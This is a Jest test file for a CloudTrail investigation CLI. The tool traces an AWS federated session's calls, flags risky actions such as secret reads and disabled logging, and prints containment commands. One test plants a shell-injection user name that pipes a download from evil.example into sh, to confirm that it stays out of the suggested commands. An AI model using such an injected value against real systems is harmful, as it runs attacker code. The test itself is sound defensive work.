import { spawn } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { text } from 'node:stream/consumers';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { placeholderCredentials } from '../../aws/dynalite-server.ts';
import { samplesFolder } from '../../samples.ts';
import { entryPoint, firstsight, firstsightProcess, root } from '../firstsight.ts';
import { hostileTexts } from '../simulate/corpus.ts';
import { byKey, federated, issue, issuedKey, own, record, signIn, write } from './corpus.ts';

const samples = [join(samplesFolder, 'AWSLogs'), join(samplesFolder, 'investigation')];
const sampleKey = 'ASIAISSUED234EXAMPLE';
let folder: string;

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'firstsight-investigate-'));
});
afterAll(() => rmSync(folder, { recursive: true }));

const investigate = (...args: readonly string[]) => firstsight(['investigate', ...args]);

function lines(stdout: string) {
  return stdout
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line));
}

describe('firstsight investigate', () => {
  test('shows for the sample session its calls, what to review first, and how to contain it', async () => {
    const { stdout, stderr, status } = await investigate('--key', sampleKey, ...samples);
    expect(status).toBe(0);
    expect(stdout).toMatch(
      /^key ASIAISSUED234EXAMPLE, federated user aws_consoler of user ci-deploy in 111122223333\n/,
    );
    expect(stdout).toContain('43 calls: 41 succeeded, 1 denied, 1 failed; 19 actions');
    expect(stdout).toContain('expired: the session ended at 2026-03-10T10:47:03Z');
    expect(stdout).toMatch(/! logging or detection turned off +cloudtrail StopLogging on .*, denied \(AccessDenied\)/);
    expect(stdout).toMatch(
      /! secrets read +secretsmanager GetSecretValue on secret:orders-db-AbCdEf and 1 more, 2 calls/,
    );
    expect(stdout).toMatch(/23:21:12 - 23:30:41 +24 {2}s3 GetObject {2}! data read in bulk/);
    expect(stdout).toContain('on arn:aws:secretsmanager:us-east-1:111122223333:secret:payments-api-GhIjKl');
    expect(stdout).toContain('27 with the key, 16 in the console');
    expect(stdout).toContain('regions         us-east-1 (41), eu-west-1 (2)');
    expect(stdout).toContain('investigate it with --key AKIABACKUPADMEXAMPLE');
    expect(stdout).toContain('aws iam put-user-policy --user-name ci-deploy --policy-name FirstsightDenyAll');
    expect(stdout).toContain('--user-name backup-admin --access-key-id AKIABACKUPADMEXAMPLE --status Inactive');
    expect(stdout).toMatch(/For a new IAM user, backup-admin: [\s\S]*put-user-policy --user-name backup-admin/);
    expect(stdout).not.toContain('StartBuild');
    expect(stderr).toBe('log files: 34 read, 1 skipped (digest-file), 0 failed; 207 kB inflated\n');
  });

  test('as ndjson writes a line for the session, each action, each created key and the end, whose counts agree', async () => {
    const all = lines((await investigate('--key', sampleKey, '--around', '--format', 'ndjson', ...samples)).stdout);
    const groups = all.filter(({ kind, of }) => kind === 'group' && of === 'session');
    const sum = (field: string) => groups.reduce((total, group) => total + group[field], 0);
    expect(all[0]).toMatchObject({
      ...{ kind: 'session', keyId: sampleKey, validity: 'expired', issuedAt: '2026-03-08T22:47:03Z' },
      ...{ calls: sum('calls'), denied: sum('denied'), failed: sum('failed'), groups: groups.length },
      marked: groups.filter(({ mark }) => mark).length,
    });
    expect(groups.find(({ action }) => action === 'CreateAccessKey')).toMatchObject({
      ...{ service: 'iam', mark: 'new-credentials', calls: 1, denied: 0, via: { console: 1 } },
      ...{ first: '2026-03-08T23:07:02Z', regions: ['us-east-1'], addresses: ['192.0.2.200'] },
      resources: ['backup-admin'],
    });
    expect(all.filter(({ of }) => of === 'base-user').map(({ action }) => action)).toEqual([
      ...['StartBuild', 'GetCallerIdentity', 'GetFederationToken', 'ListAccessKeys'],
    ]);
    expect(all.filter(({ kind }) => kind === 'key')).toMatchObject([{ keyId: 'AKIABACKUPADMEXAMPLE' }]);
    expect(all.at(-1)).toMatchObject({ kind: 'end', found: true, logFiles: 34, regions: ['eu-west-1', 'us-east-1'] });
  });

  test('reads the alert that detect writes, from a file or from stdin', async () => {
    const alerts = (await firstsight(['detect', '--format', 'ndjson', ...samples])).stdout.split('\n');
    const alert = alerts.find((line) => line.includes(sampleKey)) ?? '';
    const file = join(folder, 'alert.json');
    writeFileSync(file, alert);
    const expected = (await investigate('--key', sampleKey, '--format', 'ndjson', ...samples)).stdout;
    expect((await investigate('--alert', file, '--format', 'ndjson', ...samples)).stdout).toBe(expected);
    expect(firstsightProcess(['investigate', '--alert', '-', '--format', 'ndjson', ...samples], {}, alert).stdout).toBe(
      expected,
    );
  });

  test('waits for an alert from a slow producer on stdin', async () => {
    const alert = (await firstsight(['detect', '--format', 'ndjson', ...samples])).stdout
      .split('\n')
      .find((line) => line.includes(sampleKey));
    const child = spawn(process.execPath, [...entryPoint, 'investigate', '--alert', '-', ...samples], { cwd: root });
    setTimeout(() => child.stdin.end(alert), 4000);
    const status = new Promise((ended) => child.on('close', ended));
    const [stdout, stderr] = await Promise.all([text(child.stdout), text(child.stderr)]);
    expect({ status: await status, stderr }).toEqual({ status: 0, stderr: expect.stringMatching(/^log files: /) });
    expect(stdout).toContain(sampleKey);
  });

  test('investigates a key that the session created, and shows how to deactivate it', async () => {
    const { stdout } = await investigate('--key', 'AKIABACKUPADMEXAMPLE', ...samples);
    expect(stdout).toContain('key AKIABACKUPADMEXAMPLE, user backup-admin in 111122223333\n2 calls: 2 succeeded');
    expect(stdout).toContain('aws iam update-access-key --user-name backup-admin --access-key-id AKIABACKUPADMEXAMPLE');
  });

  test('without calls reports the log files and the time that it searched and what to check, and exits with status 0', async () => {
    const { stdout, status } = await investigate('--key', 'ASIANOBODYHASEXAMPLE', samples[1] ?? '');
    expect(status).toBe(0);
    expect(stdout).toContain('no calls with this key in 8 log files from 2026-03-08T22:35:00Z to 2026-03-09T00:20:00Z');
    expect(stdout).toMatch(/WHAT TO CHECK\n {2}Days: .*\n(.*\n)*? {2}Regions: .*\n(.*\n)*? {2}Data events: /);
    expect(stdout).toContain('aws sts get-access-key-info --access-key-id ASIANOBODYHASEXAMPLE');
    expect(stdout).not.toMatch(/VALIDITY|CONTAINMENT|validity|valid until|put-user-policy/i);
  });

  test('with --user shows the sessions issued to the user and the latest end', async () => {
    const { stdout } = await investigate('--user', 'arn:aws:iam::111122223333:user/alice', samples[0] ?? '');
    expect(stdout).toMatch(
      /^federated sessions of user alice in 111122223333\nno calls by sessions of this user in 26 /,
    );
    expect(stdout).toMatch(/^ {2}latest end +2026-03-16T10:41:22Z$/m);
    expect(stdout).toMatch(/^SESSIONS ISSUED\n {2}ASIAISSUED223EXAMPLE {2}report-reader, issued 2026-03-01T09:00:00Z/m);
  });

  test('with days before the session finds no calls', async () => {
    const { stdout } = await investigate('--key', sampleKey, '--from', '2026-03-01', '--to', '2026-03-07', ...samples);
    expect(stdout).toContain('no calls with this key in 34 log files');
  });

  test('continues after a log file that it cannot read, says so in the report, and exits with status 1', async () => {
    const broken = join(folder, 'broken.json');
    writeFileSync(broken, '{"Records":[');
    const { stdout, stderr, status } = await investigate('--key', sampleKey, broken, ...samples);
    expect(status).toBe(1);
    expect(stdout).toContain('1 log file could not be read (see stderr), so calls may be missing.');
    expect(stderr.split('\n').filter((line) => line.startsWith(`failed: ${broken}: `))).toHaveLength(1);
  });

  test('with --html writes the page', async () => {
    const page = join(folder, 'session.html');
    const { stderr, status } = await investigate('--key', sampleKey, '--html', page, ...samples);
    expect(status).toBe(0);
    expect(stderr).toContain(`page: ${page}`);
    expect(readFileSync(page, 'utf8')).toMatch(/^<!doctype html>.*<\/html>\n$/s);
  });

  test.each([
    [['samples'], 'Specify a session with --key ASIA…, --alert FILE or --user ARN.'],
    [['--key', sampleKey], 'missing required argument'],
    [['--key', 'secret', 'samples'], '"secret" is not an access key ID'],
    [['--user', 'alice', 'samples'], '"alice" is not the ARN of a federated user'],
    [['--alert', 'no-such-file.json', 'samples'], 'Cannot read no-such-file.json'],
    [['--key', sampleKey, '--user', 'x', 'samples'], 'cannot be used with'],
    [['--key', sampleKey, '--last', 'soon', 'samples'], 'such as 12h, 10d or 2w'],
    [
      ['--key', sampleKey, '--html', 'no/such/folder/report.html', 'samples'],
      'Cannot write no/such/folder/report.html: no such file or directory\n',
    ],
  ])('exits with status 2 and an error without a stack trace for the arguments %j', async (args, sentence) => {
    const { stdout, stderr, status } = await investigate(...args);
    expect({ stdout, status }).toEqual({ stdout: '', status: 2 });
    expect(stderr).toContain(sentence);
    expect(stderr).not.toMatch(/^\s+at /m);
  });

  test('shows two examples with --help, of which the first works', async () => {
    const { stdout, status } = await investigate('--help');
    expect(status).toBe(0);
    const examples = [...stdout.matchAll(/^ {2}firstsight investigate (.*)$/gm)].map(([, args = '']) => args);
    expect(examples).toHaveLength(2);
    const first = examples[0]?.replace('session.html', join(folder, 'example.html')).split(' ') ?? [];
    expect((await investigate(...first)).stdout).toContain('43 calls');
  });
});

const realRecord = resolve(root, '../shared/data/records/stratus-red-team-success.json');
if (!existsSync(realRecord)) console.warn(`The test of a real record is skipped: ${realRecord} does not exist.`);

(existsSync(realRecord) ? test : test.skip)(
  'an investigation of a real issuing record shows the session, its end, and that it made no calls',
  async () => {
    const { stdout, status } = await investigate('--key', 'ASIASTJKC5GCM7ZE6LUP', '--format', 'ndjson', realRecord);
    expect(status).toBe(0);
    expect(lines(stdout)).toMatchObject([
      { kind: 'session', issuedAt: '2024-11-30T08:43:17Z', expiresAt: '2024-11-30T20:43:17Z', calls: 0 },
      { kind: 'link', what: 'caller', depth: 0 },
      { kind: 'link', what: 'session', depth: 1, investigated: true, operation: 'GetFederationToken' },
      { kind: 'containment', of: 'session', text: expect.stringMatching(/^Deny everything to user /) },
      { kind: 'containment', of: 'session', text: expect.stringMatching(/^Then deactivate its key: AKIA/) },
      { kind: 'end', found: false, logFiles: 1 },
    ]);
  },
);

/** What the session makes, with a hostile name of each part. */
function madeBy(at: number, hostile: string) {
  const account = { eventSource: 'iam.amazonaws.com', requestParameters: { userName: hostile, roleName: hostile } };
  const assumed = { arn: `arn:aws:sts::111122223333:assumed-role/${hostile}/${hostile}` };
  return [
    byKey(at, { ...account, eventName: 'CreateUser', responseElements: { user: { arn: hostile } } }),
    byKey(at, { ...account, eventName: 'CreateLoginProfile' }),
    byKey(at, { ...account, eventName: 'CreateRole', responseElements: { role: { arn: hostile } } }),
    byKey(at, { ...account, eventName: 'UpdateAssumeRolePolicy' }),
    byKey(at, {
      ...account,
      eventName: 'CreateOpenIDConnectProvider',
      responseElements: { openIDConnectProviderArn: hostile },
    }),
    byKey(at, {
      eventSource: 'sts.amazonaws.com',
      eventName: 'AssumeRole',
      responseElements: {
        credentials: { accessKeyId: hostile, sessionToken: 'EXAMPLE-SESSION-TOKEN' },
        assumedRoleUser: assumed,
      },
    }),
  ];
}

/** Hostile texts in every field of a log file that a caller can choose. */
const hostileRecords = [
  issue(),
  ...hostileTexts.flatMap((hostile, i) => [
    ...madeBy(i, hostile),
    byKey(i, {
      eventName: `Get${hostile}`,
      eventSource: hostile,
      userAgent: hostile,
      sourceIPAddress: hostile,
      awsRegion: hostile,
      errorCode: hostile,
      requestParameters: { userName: hostile, sessionToken: 'EXAMPLE-SESSION-TOKEN' },
    }),
    byKey(i, { responseElements: { accessKey: { accessKeyId: hostile, userName: hostile } } }),
    signIn(i, { userAgent: hostile }),
    record(i, { userIdentity: own(), userAgent: hostile, eventName: hostile }),
  ]),
];

describe('texts that callers choose', () => {
  test.each(['text', 'ndjson'])('write no control characters and no secrets to the terminal: %s', async (format) => {
    const { stdout } = await investigate('--key', issuedKey, '--around', '--format', format, write(hostileRecords));
    expect(stdout.length).toBeGreaterThan(1_000);
    expect(stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200e\u200f\u2028-\u202e\u2066-\u2069]/);
    expect(stdout).not.toContain('EXAMPLE-SESSION-TOKEN');
  });

  test('contain no invisible characters when a program reads them from ndjson', async () => {
    const { stdout } = await investigate('--key', issuedKey, '--around', '--format', 'ndjson', write(hostileRecords));
    const texts: string[] = [];
    for (const line of stdout.trimEnd().split('\n')) {
      JSON.parse(line, (_, value) => {
        if (typeof value === 'string') texts.push(value);
        return value;
      });
    }
    expect(texts.length).toBeGreaterThan(100);
    expect(texts.filter((shown) => /[\p{Cc}\p{Cf}\p{Cs}]/u.test(shown))).toEqual([]);
  });

  test('are not part of any command', async () => {
    const name = "x'; curl evil.example | sh; '";
    const base = { ...own(`arn:aws:iam::111122223333:user/${name}`), userName: name };
    const made = { accessKey: { accessKeyId: 'AKIABACKUPADMEXAMPLE', userName: name } };
    const userIdentity = federated(issuedKey, { issuedBy: base });
    const folderOfRecords = write([
      issue(0, issuedKey, { userIdentity: base }),
      record(1, { userIdentity, responseElements: made }),
    ]);
    const { stdout } = await investigate('--key', issuedKey, folderOfRecords);
    const commands = stdout.split('\n').filter((line) => /^ {4}\S/.test(line));
    expect(commands.length).toBeGreaterThan(0);
    expect(commands.filter((line) => line.includes('curl'))).toEqual([]);
    expect(stdout).toContain('contains unusual characters: copy it from the record manually');
  });
});

describe('firstsight investigate over s3://', () => {
  test('with --alert reads only the days of the session, and shows the calls found so far when you press Ctrl-C', async () => {
    const asked: string[] = [];
    const body = gzipSync(JSON.stringify({ Records: [issue(), byKey(1)] }));
    const keys = Array.from({ length: 40 }, (_, i) => `${logFileKey}_${i}.json.gz`);
    let interrupted = false;
    const bucket = createServer(({ url = '' }, response) => {
      const { searchParams } = new URL(url, 'http://localhost');
      if (!searchParams.has('list-type')) {
        if (!interrupted) child.kill('SIGINT');
        interrupted = true;
        return setTimeout(() => response.end(body), 300);
      }
      const prefix = searchParams.get('prefix') ?? '';
      if (!searchParams.has('delimiter')) asked.push(prefix);
      return response.end(listing(prefix, searchParams.has('delimiter'), keys));
    });
    await new Promise<void>((ready) => bucket.listen(0, '127.0.0.1', ready));
    const endpoint = `http://127.0.0.1:${(bucket.address() as AddressInfo).port}`;
    const alert = join(folder, 'one.json');
    const args = ['--format', 'ndjson', write([issue()])];
    writeFileSync(alert, (await firstsight(['detect', ...args])).stdout);
    const child = spawn(
      process.execPath,
      [...entryPoint, 'investigate', '--alert', alert, '--format', 'ndjson', 's3://trail-bucket/AWSLogs/'],
      {
        cwd: root,
        env: { ...process.env, ...placeholderCredentials, AWS_ENDPOINT_URL_S3: endpoint },
      },
    );
    const status = new Promise((ended) => child.on('close', ended));
    const [stdout, stderr] = await Promise.all([text(child.stdout), text(child.stderr)]);
    bucket.close();
    expect(asked.map((prefix) => prefix.slice(-11)).sort()).toEqual([
      ...['2026/02/27/', '2026/02/28/', '2026/03/01/', '2026/03/02/'],
    ]);
    expect(await status).toBe(1);
    const all = lines(stdout);
    expect(all[0]).toMatchObject({ kind: 'session', calls: 1 });
    expect(all.at(-1).logFiles + all.at(-1).logFilesLeft).toBe(keys.length);
    expect(all.at(-1).logFilesLeft).toBeGreaterThan(0);
    expect(stderr).toContain('so calls may be missing from this report; run the same command again');
  });
});

/** A bucket with these log files, and the prefixes of days that were listed. */
async function bucketWith(objects: Readonly<Record<string, Buffer>>) {
  const asked: string[] = [];
  const server = createServer(({ url = '' }, response) => {
    const { pathname, searchParams } = new URL(url, 'http://localhost');
    if (!searchParams.has('list-type')) {
      return response.end(objects[decodeURIComponent(pathname).replace('/trail-bucket/', '')]);
    }
    const prefix = searchParams.get('prefix') ?? '';
    if (!searchParams.has('delimiter')) asked.push(prefix);
    return response.end(listing(prefix, searchParams.has('delimiter'), Object.keys(objects)));
  });
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
  return { asked, server, endpoint: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
}

describe('a key that outlives the session that created it', () => {
  test('is followed over the days after the session, which are read from the bucket only then', async () => {
    const made = { accessKey: { accessKeyId: 'AKIABACKUPADMEXAMPLE', userName: 'mallory' } };
    const create = byKey(1, { eventSource: 'iam.amazonaws.com', eventName: 'CreateAccessKey', responseElements: made });
    const mallory = own('arn:aws:iam::111122223333:user/mallory');
    const later = record(4 * 1440, { userIdentity: { ...mallory, accessKeyId: 'AKIABACKUPADMEXAMPLE' } });
    const body = (records: readonly object[]) => gzipSync(JSON.stringify({ Records: records }));
    const { asked, server, endpoint } = await bucketWith({
      [`${logFileKey}_1.json.gz`]: body([issue(), create]),
      [`${logFileKey}_2.json.gz`.replace('2026/03/01', '2026/03/05').replace('20260301', '20260305')]: body([later]),
    });
    const alert = join(folder, 'made.json');
    writeFileSync(alert, (await firstsight(['detect', '--format', 'ndjson', write([issue()])])).stdout);
    const { stdout, stderr, status } = await firstsight(
      [
        'investigate',
        '--alert',
        alert,
        '--from',
        '2026-02-27',
        '--to',
        '2026-03-06',
        '--format',
        'ndjson',
        's3://trail-bucket/AWSLogs/',
      ],
      { ...placeholderCredentials, AWS_ENDPOINT_URL_S3: endpoint },
    );
    server.close();
    expect({ stderr, status }).toEqual({ stderr: expect.stringContaining('log files: '), status: 0 });
    const all = lines(stdout);
    expect(all[0]).toMatchObject({ kind: 'session', keyId: issuedKey, calls: 1 });
    expect(all.filter(({ kind }) => kind === 'link').at(-1)).toMatchObject({ what: 'key', calls: 1 });
    expect(all.find(({ of }) => of === 'chain')).toMatchObject({
      action: 'ListBuckets',
      first: '2026-03-05T09:00:00Z',
    });
    const days = asked.map((prefix) => prefix.slice(-11));
    const times = (day: string) => days.filter((one) => one === day).length;
    expect([times('2026/03/02/'), times('2026/03/05/')]).toEqual([2, 1]);
  });
});

const region = 'AWSLogs/111122223333/CloudTrail/us-east-1/';
const logFileKey = `${region}2026/03/01/111122223333_CloudTrail_us-east-1_20260301T1000Z`;

function listing(prefix: string, folders: boolean, keys: readonly string[]): string {
  const below =
    region.startsWith(prefix) && region !== prefix ? region.slice(0, region.indexOf('/', prefix.length) + 1) : '';
  const contents = folders
    ? `<CommonPrefixes><Prefix>${below}</Prefix></CommonPrefixes>`
    : keys
        .filter((key) => key.startsWith(prefix))
        .map((key) => `<Contents><Key>${key}</Key><Size>1</Size></Contents>`)
        .join('');
  return `<ListBucketResult><Name>trail-bucket</Name><IsTruncated>false</IsTruncated>${contents}</ListBucketResult>`;
}
